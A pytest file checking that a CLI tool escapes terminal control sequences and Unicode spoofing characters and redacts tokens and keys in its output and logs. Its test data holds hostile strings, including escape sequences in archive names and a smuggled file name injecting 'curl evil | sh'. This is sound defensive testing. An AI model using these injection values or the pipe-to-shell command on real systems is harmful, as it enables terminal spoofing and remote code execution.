"""Foreign text cannot act on a terminal, and no message shows a secret."""

from __future__ import annotations

import io
import json
import logging
import zipfile

import pytest
from rich.table import Table
from rich.text import Text
from typer.testing import CliRunner

from xner_ray.cli import console
from xner_ray.cli.main import app
from xner_ray.cli.tag import in_color
from xner_ray.errors import UserError
from xner_ray.observability.logs import JsonFormatter, PlainFormatter, json_line, run_logger
from xner_ray.observability.safe_text import escape_controls, redact, safe_text

HOSTILE = [
    *("\x1b]0;title\x07", "\x1b[2J", "\x9b31m", "\x9d0;title\x9c", "a\rb", "\x7f", "\x00", "\x08" * 9, "\x0b"),
    *(
        "\u202egnp.exe",
        "\u2066x\u2069",
        "\u200ex",
        "\u061cx",
        "\ufeffx",
        "\u2028x",
        "\u2029x",
        "\ud800x",
        "\U000e0041x",
    ),
]
SECRET = "hf_test0secret"


def acts(text: str) -> bool:
    return any(c in "".join(HOSTILE) and not c.isalnum() and c not in "].[;" for c in text)


@pytest.mark.parametrize("text", HOSTILE)
def test_controls_are_escaped_as_json_does(text):
    escaped = escape_controls(text)
    assert not acts(escaped) and "\\" in escaped
    assert json.loads(f'"{escaped}"') == text


@pytest.mark.parametrize(
    "text", ["Zürich\t1\n2", "北京 ２０２６年", "Ελλάδα «Ж»", "می\u200cخواهم", "क्\u200dष", "🏳️‍🌈", "a\u00adb", "שלום"]
)
def test_words_of_all_languages_stay(text):
    assert safe_text(text) == text


@pytest.mark.parametrize(
    "text",
    [
        f"no answer of https://user:{SECRET}@host/x",
        f"https://{SECRET}@host/x and s3://key:{SECRET}@bucket",
        f"Authorization: Bearer {SECRET}",
        f"GET /f?X-Amz-Signature={SECRET}&a=1 failed",
        f"https://host/f?sig={SECRET}",
        f"{{'url': 'https://h/?a=1&access_token={SECRET}'}}",
        f"the variable holds {SECRET}",
        "token hf_AbCdEfGhIjKlMnOpQrStUv",
        "AKIAIOSFODNN7EXAMPLE",
    ],
)
def test_secrets_are_replaced(text, monkeypatch):
    monkeypatch.setenv("HF_TOKEN", SECRET)
    shown = redact(text)
    assert SECRET not in shown and "***" in shown and "hf_AbCd" not in shown and "AKIA" not in shown


def test_ordinary_values_of_the_environment_are_not_secrets(monkeypatch):
    monkeypatch.setenv("TOKENIZERS_PARALLELISM", "falsehood")
    monkeypatch.setenv("RAY_AUTH_MODE", "disabled")
    text = "falsehood, disabled, https://host/a@b, mail a@b.c, 3 tokens"
    assert safe_text(text) == text


@pytest.mark.parametrize("text", HOSTILE)
def test_everything_that_is_printed_is_safe(text, capsys, monkeypatch):
    """Messages, errors, tables, logs of the driver and of workers, and tracebacks."""
    monkeypatch.setenv("HF_TOKEN", SECRET)
    text = f"{text} {SECRET}"
    table = Table("name")
    table.add_row(Text(text))
    for result in (Text(text), table):
        console.show(result)
    console.echo(text, "red")
    with pytest.raises(SystemExit), console.report_user_errors():
        raise UserError(text, file=f"{text}/f", key=text, remedy="none")
    run_logger("r")(text)
    error = RuntimeError(text)
    console.print_traceback(RuntimeError, error, None)
    record = logging.LogRecord("xner_ray", logging.INFO, "", 0, "%s", (text,), (RuntimeError, error, None))
    printed = capsys.readouterr()
    lines = [printed.out, printed.err, PlainFormatter().format(record), JsonFormatter().format(record)]
    lines.append(json_line("info", text, shard=text))
    assert not any(acts(line) or SECRET in line for line in lines), lines
    assert json.loads(lines[-1])["message"].endswith("***")
    assert not acts(in_color(text, [(0, 1, "PER", 1.0)]).plain)


def test_a_file_name_cannot_add_a_line():
    assert "\n  remedy: curl" not in str(UserError("is bad", file="x\n  remedy: curl evil | sh", remedy="none"))


def test_entry_names_of_an_archive_are_escaped(tmp_path):
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as archive:
        archive.writestr("\x1b]0;owned\x07.de", "x\n")
    (tmp_path / "\x1b[2Ja.zip").write_bytes(data.getvalue())
    arguments = ["corpus", "ingest", str(tmp_path / "\x1b[2Ja.zip"), "--target", "de", "--out", str(tmp_path / "out")]
    result = CliRunner().invoke(app, arguments)
    assert result.exit_code == 2 and "\\u001b" in result.stderr and not acts(result.stderr + result.stdout)
